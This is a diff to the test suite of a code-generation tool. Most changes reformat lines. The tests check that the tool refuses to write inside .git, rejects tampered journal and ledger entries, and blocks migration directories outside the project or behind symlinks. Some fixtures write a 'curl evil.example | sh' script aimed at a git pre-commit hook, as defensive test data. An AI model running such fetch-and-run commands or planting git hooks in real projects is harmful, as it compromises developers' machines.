@@ -39,7 +39,14 @@ for (const command of [["gen"], ["recover"], ["recover", "--rollback"]]) {
     mkdirSync(join(tx, "old"), { recursive: true });
     writeFileSync(join(tx, "new/0"), "#!/bin/sh\ncurl evil.example | sh\n", { mode: 0o755 });
     writeFileSync(join(tx, "old/0"), "#!/bin/sh\ncurl evil.example | sh\n", { mode: 0o755 });
-    writeFileSync(join(tx, "journal.json"), JSON.stringify({ version: 1, ops: [{ path: ".git/hooks/pre-commit", op: "write", existed: true }], ledger: false }));
+    writeFileSync(
+      join(tx, "journal.json"),
+      JSON.stringify({
+        version: 1,
+        ops: [{ path: ".git/hooks/pre-commit", op: "write", existed: true }],
+        ledger: false,
+      }),
+    );
     const r = codegen(command, dir);
     assert.is(r.code, 1, r.stderr);
     assert.match(r.stderr, /JOURNAL_INVALID .*\.git\/hooks\/pre-commit, inside \.git, which codegen never writes/);
@@ -52,7 +59,10 @@ test("a journal path is compared without case (.GIT on a case-insensitive file s
   const tx = join(dir, ".codegen/tx");
   mkdirSync(join(tx, "new"), { recursive: true });
   writeFileSync(join(tx, "new/0"), "[core]\n");
-  writeFileSync(join(tx, "journal.json"), JSON.stringify({ version: 1, ops: [{ path: ".GIT/config", op: "write", existed: false }], ledger: false }));
+  writeFileSync(
+    join(tx, "journal.json"),
+    JSON.stringify({ version: 1, ops: [{ path: ".GIT/config", op: "write", existed: false }], ledger: false }),
+  );
   const r = codegen(["recover"], dir);
   assert.is(r.code, 1, r.stderr);
   assert.match(r.stderr, /JOURNAL_INVALID .*inside \.GIT/);
@@ -63,7 +73,13 @@ test("a ledger listing .git/HEAD with its bytes' hash is refused, and .git/HEAD 
   const dir = clonedProject();
   const ledgerPath = join(dir, ".codegen/ledger.json");
   const ledger = JSON.parse(readFileSync(ledgerPath, "utf8")) as { files: unknown[] };
-  ledger.files.unshift({ path: ".git/HEAD", mode: "managed", rule: "main", sources: [], sha256: createHash("sha256").update(HEAD).digest("hex") });
+  ledger.files.unshift({
+    path: ".git/HEAD",
+    mode: "managed",
+    rule: "main",
+    sources: [],
+    sha256: createHash("sha256").update(HEAD).digest("hex"),
+  });
   writeFileSync(ledgerPath, JSON.stringify(ledger));
   const r = codegen(["gen"], dir);
   assert.is(r.code, 1, r.stderr);
@@ -79,7 +95,10 @@ test("a pack rule planning .git/commondir is refused, though the pack runs no co
   mkdirSync(join(dir, ".git"), { recursive: true });
   const r = codegen(["gen"], dir, env);
   assert.is(r.code, 1, r.stderr);
-  assert.match(r.stderr, /UNSAFE_PATH rule "point-git" planned "\.git\/commondir", which lies in \.git, a folder codegen never writes/);
+  assert.match(
+    r.stderr,
+    /UNSAFE_PATH rule "point-git" planned "\.git\/commondir", which lies in \.git, a folder codegen never writes/,
+  );
   assert.not.ok(existsSync(join(dir, ".git/commondir")));
 });
 
@@ -90,7 +109,10 @@ test("a cloned project's migrate.dir outside the project, or through a link, is 
   writeFileSync(join(outside, "1_evil.up.sql"), "CREATE TABLE pwned (id INTEGER);");
   const dir = join(base, "proj");
   mkdirSync(dir);
-  for (const [migrateDir, why] of [["../elsewhere", /is not inside the project/], ["linked", /reaches linked, which is a symbolic link/]] as const) {
+  for (const [migrateDir, why] of [
+    ["../elsewhere", /is not inside the project/],
+    ["linked", /reaches linked, which is a symbolic link/],
+  ] as const) {
     writeFileSync(join(dir, ".codegen.yaml"), `name: m\nmigrate:\n  datasource: sqlite:app.db\n  dir: ${migrateDir}\n`);
     if (migrateDir === "linked") symlinkSync(outside, join(dir, "linked"));
     const r = codegen(["migrate", "up"], dir);
